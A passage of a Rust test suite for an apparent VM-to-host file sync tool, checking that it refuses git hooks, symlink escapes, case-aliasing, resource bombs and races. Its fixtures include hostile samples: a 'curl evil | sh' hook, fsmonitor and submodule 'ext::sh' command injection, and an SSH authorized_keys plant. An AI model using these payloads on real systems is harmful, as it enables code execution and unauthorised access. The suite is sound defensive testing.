    let start = SystemTime::now();
    g.u("future", "f").u("past", "p");
    set_mtime(&g.upper().join("future"), SystemTime::UNIX_EPOCH + Duration::from_secs(4_102_444_800));
    set_mtime(&g.upper().join("past"), SystemTime::UNIX_EPOCH - Duration::from_secs(86_400));
    applied(&g.sync(&["--yes"]));
    let lowest = SystemTime::UNIX_EPOCH + Duration::from_secs(315_532_800);
    let highest = SystemTime::now() + Duration::from_secs(86_400);
    for f in ["future", "past"] {
        let mtime = g.host().join(f).metadata().expect("stat").modified().expect("mtime");
        assert!(mtime >= lowest && mtime <= highest && mtime >= start - Duration::from_secs(5), "{f}: {mtime:?}");
    }
}

#[test]
fn g5_exec_bit_added_needs_a_persons_approval() {
    let g = Gate::new(&[("run.sh", "echo hi\n")]);
    g.u("run.sh", "echo hi\n").u_mode("run.sh", 0o755);
    assert_eq!(g.ops(), ["write run.sh"], "a mode change alone is a change");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("run.sh", "R_EXECUTABLE")]);
}

#[test]
fn g6_user_xattrs_are_dropped() {
    let g = Gate::new(&[("a", "A")]);
    g.u("f", "data").xattr("f", "user.foo", b"bar").xattr("f", "user.com.apple.quarantine", b"0081;5f;Safari;");
    applied(&g.sync(&["--yes"]));
    let names: Vec<_> = xattr::list(g.host().join("f")).expect("list").collect();
    assert!(names.is_empty(), "{names:?}");
    assert_eq!(g.tree(), lines(&["a 644 A", "f 644 data"]));
}

#[test]
fn g7_posix_acls_are_dropped() {
    let g = Gate::new(&[("a", "A")]);
    // ACL v2: user::rw-, user:1000:rw-, group::r--, mask::r--, other::r--.
    let mut acl = 2u32.to_le_bytes().to_vec();
    for (tag, perm, id) in
        [(1u16, 6u16, u32::MAX), (2, 6, 1000), (4, 4, u32::MAX), (0x10, 4, u32::MAX), (0x20, 4, u32::MAX)]
    {
        acl.extend(tag.to_le_bytes());
        acl.extend(perm.to_le_bytes());
        acl.extend(id.to_le_bytes());
    }
    g.u("f", "data").xattr("f", "system.posix_acl_access", &acl);
    applied(&g.sync(&["--yes"]));
    assert_eq!(xattr::get(g.host().join("f"), "system.posix_acl_access").expect("xattr"), None);
    assert_eq!(g.tree(), lines(&["a 644 A", "f 644 data"]));
}

#[test]
fn g8_directory_mode_000_is_normalised() {
    let g = Gate::new(&[("locked/x", "x")]);
    g.u_dir("locked").u_mode("locked", 0o000).u("newdir/f", "f").u_mode("newdir", 0o000);
    applied(&g.sync(&["--yes"]));
    for dir in ["locked", "newdir"] {
        let mode = g.host().join(dir).metadata().expect("stat").mode() & 0o777;
        assert_eq!(mode & 0o700, 0o700, "{dir}: {mode:o}; the owner can still use it");
    }
}

// ---------------------------------------------------------------------------------------------
// H. Case and Unicode aliasing: checked on every host, with APFS semantics.

#[test]
fn h1_two_new_names_differing_by_case_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("Makefile", "a").u("makefile", "b").u("README.md", "r").u("readme.md", "r2");
    let before = g.snapshot();
    let expect = [
        ("Makefile", "E_NAME_ALIAS"),
        ("makefile", "E_NAME_ALIAS"),
        ("README.md", "E_NAME_ALIAS"),
        ("readme.md", "E_NAME_ALIAS"),
    ];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn h2_nfc_and_nfd_spellings_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("caf\u{e9}", "nfc").u("cafe\u{301}", "nfd");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("caf\u{e9}", "E_NAME_ALIAS"), ("cafe\u{301}", "E_NAME_ALIAS")]);
}

#[test]
fn h3_new_name_aliasing_an_existing_host_file_is_refused() {
    let g = Gate::new(&[("README.md", "# project\n")]);
    g.u("readme.md", "overwrites README.md on macOS");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("readme.md", "E_NAME_ALIAS")]);
}

#[test]
fn h4_case_only_rename_is_applied_delete_first() {
    let g = Gate::new(&[("Readme.md", "old"), ("Docs/a.md", "a")]);
    g.whiteout("Readme.md").u("README.md", "new").whiteout("Docs").u("docs/a.md", "a");
    let ops = g.ops();
    let at = |op: &str| ops.iter().position(|o| o == op).unwrap_or_else(|| panic!("{op}: {ops:?}"));
    assert!(at("delete Readme.md") < at("write README.md"), "{ops:?}");
    assert!(at("delete Docs") < at("mkdir docs"), "{ops:?}");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["README.md 644 new", "docs/ 755", "docs/a.md 644 a"]));
}

#[test]
fn h5_symlink_plus_case_alias_is_refused() {
    let g = Gate::new(&[(".git/hooks/pre-commit.sample", "#!/bin/sh\n"), ("a.txt", "a")]);
    g.u_link("A", ".git/hooks").u("a/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
    g.u_link("S", &g.home().join(".ssh").display().to_string()).u("s/authorized_keys", "ssh-ed25519 AAAA evil\n");
    let before = g.snapshot();
    let expect = [("A", "E_GIT_PATH"), ("a", "E_NAME_ALIAS"), ("S", "E_SYMLINK_ESCAPE"), ("s", "E_NAME_ALIAS")];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
    assert!(!g.home().join(".ssh").exists());
}

#[test]
fn h6_hfs_ignorable_git_spellings_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".g\u{200c}it/hooks/pre-commit", "#!/bin/sh\n").u(".git\u{feff}/config", "[core]\n");
    let before = g.snapshot();
    let expect = [(".g\\u{200c}it/hooks/pre-commit", "E_GIT_PATH"), (".git\\u{feff}/config", "E_GIT_PATH")];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn h7_file_and_directory_differing_by_case_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("Docs", "file").u("docs/x", "dir");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("Docs", "E_NAME_ALIAS"), ("docs", "E_NAME_ALIAS")]);
}

#[test]
fn h8_new_path_under_a_host_directory_differing_by_case_is_refused() {
    // The host directory the baseline never saw...
    let g = Gate::new(&[("a", "A")]);
    std::fs::create_dir(g.host().join("Src")).expect("mkdir");
    g.u("src/new.rs", "x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "E_NAME_ALIAS")]);
    // ...and one it did.
    let g = Gate::new(&[("Src/lib.rs", "l")]);
    g.u("src/new.rs", "x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "E_NAME_ALIAS")]);
}

// ---------------------------------------------------------------------------------------------
// I. `.git` and code-execution paths.

#[test]
fn i1_new_git_hook_is_refused() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n")]);
    g.u(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n").u_mode(".git/hooks/post-checkout", 0o755);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git/hooks/post-checkout", "E_GIT_PATH")]);
}

#[test]
fn i2_git_config_change_is_refused() {
    let g = Gate::new(&[(".git/config", "[core]\n\tbare = false\n")]);
    g.u(".git/config", "[core]\n\tbare = false\n\tfsmonitor = \"sh -c evil\"\n\thooksPath = /tmp/h\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git/config", "E_GIT_PATH")]);
}

#[test]
fn i3_git_directory_in_other_case_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".GIT/config", "[core]\n").u(".Git/hooks/x", "#!/bin/sh\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".GIT/config", "E_GIT_PATH"), (".Git/hooks/x", "E_GIT_PATH")]);
}

#[test]
fn i4_git_directory_replaced_by_a_gitdir_file_is_refused() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n"), (".git/config", "[core]\n")]);
    g.u(".git", "gitdir: /tmp/evil\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git", "E_GIT_PATH"), (".git/config", "E_GIT_PATH")]);
}

#[test]
fn i5_submodule_internals_are_refused() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n")]);
    g.u(".git/modules/x/hooks/pre-commit", "#!/bin/sh\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git/modules/x/hooks/pre-commit", "E_GIT_PATH")]);
}

#[test]
fn i6_auto_run_files_need_a_persons_approval() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".vscode/tasks.json", r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#);
    g.u(".envrc", "use nix\n").u(".cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nrunner = \"evil\"\n");
    g.u("build.rs", "fn main() {}\n");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    let expect = [".vscode/tasks.json", ".envrc", ".cargo/config.toml", "build.rs"].map(|p| (p, "R_CODE_PATH"));
    refused(&g, &out, &before, &expect);
    assert!(out.stdout.contains("needs approval:"), "{}", out.all());
}

#[test]
fn i7_gitmodules_needs_approval_and_a_carriage_return_path_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/pwned\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".gitmodules", "R_CODE_PATH")]);
    g.u("sub\r", "x");
    refused(&g, &g.sync(&["--yes"]), &before, &[("sub\\u{d}", "E_NAME")]);
}

#[test]
fn i8_agent_commits_are_refused_with_the_bundle_hint() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n"), (".git/index", "DIRC")]);
    g.u(".git/objects/ab/cdef0123", "blob").u(".git/refs/heads/main", "abcdef\n").u(".git/index", "DIRC2");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    let expect = [".git/objects/ab/cdef0123", ".git/refs/heads/main", ".git/index"].map(|p| (p, "E_GIT_PATH"));
    refused(&g, &out, &before, &expect);
    assert!(out.stdout.contains("git bundle"), "{}", out.all());
}

// ---------------------------------------------------------------------------------------------
// J. Resource exhaustion.

#[test]
fn j1_file_over_the_size_limit_is_refused_and_leaves_no_staging() {
    let g = Gate::new(&[("a", "A")]);
    g.u("big", "");
    std::fs::File::options()
        .write(true)
        .open(g.upper().join("big"))
        .expect("open")
        .set_len((10 << 20) + 1)
        .expect("size");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("big", "E_SIZE")]);
    let sync_state = g.home().join(".local/state/sandbox/sync");
    for e in walkdir::WalkDir::new(&sync_state).into_iter().flatten() {
        assert!(!e.path().components().any(|c| c.as_os_str() == "stage"), "staging left: {}", e.path().display());
    }
}

#[test]
fn j1_file_over_the_size_limit_is_never_staged() {
    let g = Gate::new(&[("a", "A")]);
    g.u("big", "");
    std::fs::File::options()
        .write(true)
        .open(g.upper().join("big"))
        .expect("open")
        .set_len((10 << 20) + 1)
        .expect("size");
    let out = g.sync(&["--yes"]);
    assert_eq!(out.code, 3, "{}", out.all());
    let audit = std::fs::read_to_string(g.home().join(".local/state/sandbox/audit.jsonl")).expect("audit");
    let last: serde_json::Value = serde_json::from_str(audit.lines().last().expect("a line")).expect("json");
    assert_eq!(last["sha256"], serde_json::json!([]), "staged before the refusal: {last}");
}

#[test]
fn j1_tar_member_over_the_size_limit_is_refused_before_reading_it() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().member(tar::EntryType::Regular, b"./big", b"", 20 << 30, b"");
    let before = g.snapshot();
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("./big", "E_LIMIT")]);
}

#[test]
fn j2_sparse_bomb_is_refused_on_its_apparent_size() {
    let g = Gate::new(&[("a", "A")]);
    g.u("sparse.bin", "");
    std::fs::File::options()
        .write(true)
        .open(g.upper().join("sparse.bin"))
        .expect("open")
        .set_len(1 << 40)
        .expect("size");
    let before = g.snapshot();
    let out = g.sync_within(&["--yes"], Duration::from_secs(20)).expect("refused quickly, never expanded");
    refused(&g, &out, &before, &[("sparse.bin", "E_SIZE")]);
}

#[test]
fn j3_too_many_files_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let many = g.upper().join("many");
    std::fs::create_dir(&many).expect("mkdir");
    for i in 0..10_001 {
        std::fs::File::create(many.join(i.to_string())).expect("create");
    }
    let before = g.snapshot();
    let start = Instant::now();
    let out = g.sync(&["--yes"]);
    refused_saying(&g, &out, &before, &[("is past `sync.max_files`", "E_COUNT")]);
    assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
}

#[test]
fn j4_deep_upper_directory_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(&format!("{}f", "d/".repeat(200)), "deep");
    let before = g.snapshot();
    refused_saying(&g, &g.sync(&["--yes"]), &before, &[("more than 64 levels deep", "E_DEPTH")]);
}

#[test]
fn j4_depth_10000_in_a_stream_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let path = format!("./{}f", "d/".repeat(10_000));
    let mut tar = Tar::new();
    tar.root().pax(&[("path", path.as_bytes())]).file("./x", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("more than 64 levels deep", "E_DEPTH")]);
}

#[test]
fn j5_enospc_during_apply_rolls_back() {
    let g = Gate::empty();
    let _mount = Mount::tmpfs(&g.host(), "256k");
    g.h("a", "A");
    g.baseline();
    g.u("a", "A2").u_bytes("big.bin", &vec![b'z'; 1 << 20]);
    let before = g.tree();
    let out = g.sync(&["--yes"]);
    assert_eq!(out.code, 1, "an error\n{}", out.all());
    assert!(out.stderr.contains("rolled back") && out.stderr.contains("No space left"), "{}", out.all());
    assert_eq!(g.tree(), before, "rolled back, no temp files\n{}", out.all());
    // Nothing is left for the next run to recover.
    let again = g.sync(&["--dry-run"]);
    assert!(!again.all().contains("interrupted"), "{}", again.all());
}

#[test]
fn j6_xattr_bomb_is_refused_with_bounded_memory() {
    let g = Gate::new(&[("a", "A")]);
    let value = vec![b'v'; 64 << 10];
    let names: Vec<String> = (0..1000).map(|i| format!("SCHILY.xattr.user.x{i}")).collect();
    let records: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &value[..])).collect();
    let mut tar = Tar::new();
    tar.root().pax(&records).file("./f", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("PAX header", "E_LIMIT")]);
}

#[test]
fn j7_symlink_target_of_4095_bytes_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let target = format!("{}x", "a/".repeat(2047));
    assert_eq!(target.len(), 4095);
    g.u_link("t", &target);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("t", "E_SYMLINK_TARGET")]);
}

// ---------------------------------------------------------------------------------------------
// K. TOCTOU (the cases that need no race harness).

#[test]
fn k5_a_second_sync_while_one_is_running_is_refused() {
    use std::io::Write;
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    let mut tar = Tar::new();
    tar.root().file("./a", &"A2".repeat(4096));
    let stream = tar.finish();
    let (entries, bytes) = (tar.entries.to_string(), tar.bytes.to_string());
    let args = ["--profile", "t", "sync", "--from-tar", "-", "--entries", &entries, "--bytes", &bytes, "--to", "ws"];
    let mut first = g
        .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
        .args(args)
        .arg("--yes")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    let mut stdin = first.stdin.take().expect("stdin");
    stdin.write_all(&stream[..2048]).expect("first half");
    stdin.flush().expect("flush");
    // Wait until the first sync is staging the member it is reading.
    let state = g.home().join(".local/state/sandbox/sync");
    let start = Instant::now();
    let staging = || {
        walkdir::WalkDir::new(&state)
            .into_iter()
            .flatten()
            .any(|e| e.file_name().to_string_lossy().starts_with(".incoming-"))
    };
    while !staging() {
        assert!(start.elapsed() < Duration::from_secs(20), "the first sync never started staging");
        std::thread::sleep(Duration::from_millis(20));
    }
    g.u("b", "B2");
    let before = g.snapshot();
    let second = g.sync(&["--yes"]);
    let _ = stdin.write_all(&stream[2048..]);
    drop(stdin);
    let start = Instant::now();
    while first.try_wait().expect("wait").is_none() {
        if start.elapsed() > Duration::from_secs(20) {
            let _ = first.kill();
            let _ = first.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(second.code == 1 || second.code == 3, "the second sync fails (E_LOCKED)\n{}", second.all());
    assert!(second.all().to_lowercase().contains("lock"), "{}", second.all());
    assert_eq!(g.snapshot()["ws/b"], before["ws/b"], "the second sync wrote nothing");
}

#[test]
fn k7_mount_point_inside_the_workspace_is_refused() {
    let g = Gate::empty();
    std::fs::create_dir(g.host().join("mnt")).expect("mkdir");
    let _mount = Mount::tmpfs(&g.host().join("mnt"), "1m");
    g.h("mnt/existing", "e").h("a", "A");
    g.baseline();
    g.u_dir("mnt").u("mnt/x", "into another filesystem");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    assert!(out.code == 3 || out.code == 1, "refused (E_XDEV)\n{}", out.all());
    assert_eq!(g.snapshot(), before, "nothing written across the mount\n{}", out.all());
}

// ---------------------------------------------------------------------------------------------
// M. Conflicts and untracked data.

#[test]
fn m1_both_sides_modified_is_a_conflict() {
    let g = Gate::new(&[("a", "base"), ("b", "B")]);
    g.h("a", "host");
    g.u("a", "vm").u("b", "B2");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("a", "changed on the host since the baseline")]);
}

#[test]
fn m2_host_edit_the_vm_did_not_touch_is_kept() {
    let g = Gate::new(&[("a", "base"), ("b", "B")]);
    g.h("a", "host");
    g.u("b", "B2");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 host", "b 644 B2"]));
}

#[test]
fn m3_host_modified_and_vm_deleted_is_a_conflict() {
    let g = Gate::new(&[("a", "base")]);
    g.h("a", "host");
    g.whiteout("a");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("a", "changed on the host since the baseline")]);
}

#[test]
fn m4_host_file_added_in_a_deleted_directory_survives() {
    let g = Gate::new(&[("d2/x", "x"), ("d2/sub/y", "y"), ("keep", "k")]);
    g.h("d2/new_on_host", "mine");
    g.whiteout("d2");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert_eq!(g.tree(), lines(&["d2/ 755", "d2/new_on_host 644 mine", "keep 644 k"]));
}

#[test]
fn m4_host_file_added_in_a_deleted_directory_is_reported() {
    let g = Gate::new(&[("d2/x", "x"), ("keep", "k")]);
    g.h("d2/new_on_host", "mine");
    g.whiteout("d2");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.all().contains("new_on_host") || out.stdout.lines().any(|l| l.contains("d2") && l.contains("kept")));
}

const EXCLUDES: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws, exclude: [\"**/node_modules/**\"]}]\n";

#[test]
fn m5_excluded_content_survives_a_deleted_parent() {
    let g = Gate::with_profile(EXCLUDES);
    g.h("app/main.js", "m").h("app/node_modules/dep/index.js", "d").h("keep", "k");
    g.baseline();
    g.whiteout("app");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("excluded by the workspace's exclude globs"), "{}", out.all());
    assert!(out.stdout.contains("app/node_modules/dep/index.js"), "{}", out.all());
    let expect = [
        "app/ 755",
        "app/node_modules/ 755",
        "app/node_modules/dep/ 755",
        "app/node_modules/dep/index.js 644 d",
        "keep 644 k",
    ];
    assert_eq!(g.tree(), lines(&expect));
}

/// A sandboxed tool session leaves its container's skills mount point in the workspace's upper.
#[test]
fn the_tool_sandboxs_empty_mount_points_are_left_out_and_listed() {
    let g = Gate::new(&[("a", "A")]);
    g.u_dir(".openclaw/sandbox-skills/skills");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("left out: the tool sandbox's mount points"), "{}", out.all());
    let report: serde_json::Value = serde_json::from_str(&g.sync(&["--dry-run", "--json"]).stdout).unwrap();
    assert_eq!(
        report["mount_points"],
        serde_json::json!([".openclaw/sandbox-skills/skills", ".openclaw/sandbox-skills", ".openclaw"])
    );

    // With the agent's own file beside them, the file and the folder it needs are synced.
    g.u(".openclaw/notes.md", "n");
    assert_eq!(g.ops(), ["mkdir .openclaw", "write .openclaw/notes.md"]);
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&[".openclaw/ 755", ".openclaw/notes.md 644 n", "a 644 A"]));
}

#[test]
fn m6_host_extras_in_an_opaque_directory_survive() {
    let g = Gate::new(&[("d3/y", "y"), ("d3/z", "z")]);
    g.h("d3/extra", "mine");
    g.opaque("d3").u("d3/new", "n");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d3/ 755", "d3/extra 644 mine", "d3/new 644 n"]));
}

#[test]
fn m6_host_extras_in_an_opaque_directory_are_reported() {
    let g = Gate::new(&[("d3/y", "y")]);
    g.h("d3/extra", "mine");
    g.opaque("d3").u("d3/new", "n");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.lines().any(|l| l.contains("d3/extra")), "a warning\n{}", out.all());
}

#[test]
fn m6_a_host_only_file_the_vm_writes_in_an_opaque_directory_is_a_conflict() {
    let g = Gate::new(&[("d3/y", "y")]);
    g.h("d3/extra", "mine");
    g.opaque("d3").u("d3/extra", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d3/extra", "created on the host too")]);
}

#[test]
fn m7_both_added_with_other_content_is_a_conflict() {
    let g = Gate::new(&[("a", "A")]);
    g.h("p", "host");
    g.u("p", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("p", "created on the host too")]);
}

#[test]
fn m7_both_added_with_the_same_content_is_a_no_op() {
    let g = Gate::new(&[("a", "A")]);
    g.h("p", "same");
    g.u("p", "same");
    let before = g.snapshot();
    nothing_to_do(&g, &g.sync(&["--yes"]), &before);
}

#[test]
fn m8_host_deleted_and_vm_modified_is_a_conflict() {
    let g = Gate::new(&[("p", "base"), ("a", "A")]);
    std::fs::remove_file(g.host().join("p")).expect("rm");
    g.u("p", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("p", "deleted on the host")]);
}

#[test]
fn m9_both_deleted_is_a_no_op() {
    let g = Gate::new(&[("p", "base"), ("a", "A")]);
    std::fs::remove_file(g.host().join("p")).expect("rm");
    g.whiteout("p");
    let before = g.snapshot();
    nothing_to_do(&g, &g.sync(&["--yes"]), &before);
}

#[test]
fn m10_host_type_change_is_a_conflict() {
    let g = Gate::new(&[("p", "base")]);
    std::fs::remove_file(g.host().join("p")).expect("rm");
    g.h("p/inner", "host dir");
    g.u("p", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("p", "changed on the host")]);
}

#[test]
fn m11_host_touch_only_is_not_a_conflict() {
    let g = Gate::new(&[("p", "base")]);
    set_mtime(&g.host().join("p"), SystemTime::now() + Duration::from_secs(600));
    g.u("p", "vm");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["p 644 vm"]));
}

#[test]
fn m12_whiteout_for_a_host_only_path_keeps_it_and_says_so() {
    let g = Gate::new(&[("a", "A")]);
    g.h("p", "host only");
    g.whiteout("p");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("p: deleted in the VM but never in the baseline"), "{}", out.all());
}

// ---------------------------------------------------------------------------------------------
// The person at the terminal (a real pseudo-terminal through tmux; skipped without tmux): choices
// in the preview, and the host changing while the preview is read (K3, K6).

impl Gate {
    /// `sandbox sync` of the upper into `ws` in a terminal; `None` without tmux.
    fn terminal(&self, color: bool) -> Option<crate::test::Tmux> {
        let mut env = crate::test::home_env(&self.home());
        if !color {
            env.push(("NO_COLOR".into(), "1".into()));
        }
        let args = format!(
            "--profile t sync --from-dir {} --to ws",
            crate::test::shell_quote(&self.upper().display().to_string())
        );
        let tmux = crate::test::Tmux::start(&self.home(), &self.home(), &env, &args);
        if tmux.is_none() {
            #[allow(clippy::print_stderr)] // the only way to say a test was skipped
            {
                eprintln!("skipped: tmux is not installed (CI installs it)");
            }
        }
        tmux
    }
}

#[test]
fn terminal_choose_operations_to_leave_out() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2").u("b", "B").u("c", "C");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    t.key("Down");
    t.key("Enter");
    t.wait_for("Space toggles");
    // The checklist is in plan order: a, b, c. Uncheck c.
    t.key("Down");
    t.key("Down");
    t.key("Space");
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A2", "b 644 B"]));
    // What was left out is offered again next time.
    let again = g.sync(&["--dry-run"]);
    assert!(again.stdout.lines().any(|l| l.trim() == "write   c"), "{}", again.all());
    assert!(!again.stdout.lines().any(|l| l.trim() == "write   b"), "{}", again.all());
}

#[test]
fn terminal_review_paths_are_approved_one_by_one() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".envrc", "use nix\n").u("b", "B");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Approve .envrc?");
    t.key("n");
    t.wait_for("Apply to");
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A", "b 644 B"]), "the review path declined is left out");
    // Approved, it is applied.
    drop(t);
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Approve .envrc?");
    t.key("y");
    t.wait_for("Apply to");
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&[".envrc 644 use nix\n", "a 644 A", "b 644 B"]));
}

#[test]
fn terminal_preview_is_coloured_and_apply_nothing_writes_nothing() {
    let g = Gate::new(&[("a", "one\ntwo\n")]);
    g.u("a", "one\nthree\n");
    let Some(t) = g.terminal(true) else { return };
    t.wait_for("Apply to");
    let screen = t.tmux(&["capture-pane", "-p", "-e", "-t", "init"]);
    assert!(screen.contains("\x1b[32m") && screen.contains("\x1b[31m"), "green and red in:\n{screen:?}");
    t.key("Down");
    t.key("Down");
    t.key("Enter");
    assert_eq!(t.exit_code(), 3, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 one\ntwo\n"]));
}

#[test]
fn k3_host_edit_after_the_checks_abandons_the_sync() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.u("a", "A2").u("b", "B2").u("n", "N");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    g.h("a", "edited by the user meanwhile");
    t.key("Enter");
    assert_eq!(t.exit_code(), 1, "{}", t.screen());
    assert!(t.screen().contains("E_TOCTOU_CHANGED") && t.screen().contains("rolled back"), "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 edited by the user meanwhile", "b 644 B"]), "nothing applied");
}

#[test]
fn k6_host_file_created_at_a_planned_new_path_is_never_clobbered() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2").u("n", "from the VM");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    g.h("n", "created by the user meanwhile");
    t.key("Enter");
    assert_eq!(t.exit_code(), 1, "{}", t.screen());
    assert!(t.screen().contains("E_TOCTOU_CHANGED"), "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A", "n 644 created by the user meanwhile"]), "nothing applied");
}

#[test]
fn k1_source_changed_after_the_scan_is_not_what_gets_applied() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "the scanned bytes\n");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    // Split so the repository's own self-scan does not see a token here.
    g.u("a", concat!("changed in the VM after the scan: token = gh", "p_0123456789abcdefghijklmnopqrstuvwxyz\n"));
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 the scanned bytes\n"]), "the staged bytes, never a second read");
}

/// Flip `path` under `root` between what `a` and `b` make, as fast as possible, until `stop`.
fn flipper(
    root: PathBuf,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    a: impl Fn(&Path) + Send + 'static,
    b: impl Fn(&Path) + Send + 'static,
) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        while !stop.load(std::sync::atomic::Ordering::Relaxed) {
            a(&root);
            b(&root);
        }
        a(&root);
    })
}

#[test]
fn k2_source_flipping_to_a_symlink_during_the_scan_never_reads_the_target() {
    let g = Gate::new(&[("a", "A")]);
    g.u("f", "plain\n");
    let secret = g.home().join("outside/credentials");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flip = flipper(
        g.upper(),
        stop.clone(),
        |u| {
            let _ = std::fs::remove_file(u.join("f"));
            let _ = std::fs::write(u.join(".f.tmp"), "plain\n");
            let _ = std::fs::rename(u.join(".f.tmp"), u.join("f"));
        },
        move |u| {
            let _ = std::os::unix::fs::symlink(&secret, u.join(".f.lnk"));
            let _ = std::fs::rename(u.join(".f.lnk"), u.join("f"));
        },
    );
    let mut outcomes = BTreeMap::new();
    for _ in 0..25 {
        let out = g.sync(&["--yes"]);
        *outcomes.entry(out.code).or_insert(0) += 1;
        assert!(matches!(out.code, 0 | 1 | 3), "{}", out.all());
        let host = tree_of(&g.host());
        assert!(
            !host.iter().any(|l| l.contains("key = outside")),
            "the link's target was read\n{host:?}\n{}",
            out.all()
        );
        assert!(!out.all().contains("key = outside"), "{}", out.all());
